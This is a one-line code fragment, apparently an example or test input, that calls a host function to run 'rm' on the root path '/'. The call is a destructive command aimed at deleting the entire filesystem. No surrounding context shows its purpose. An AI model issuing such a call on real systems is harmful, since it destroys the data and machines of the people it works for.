await host_call('rm', {'path': '/'})
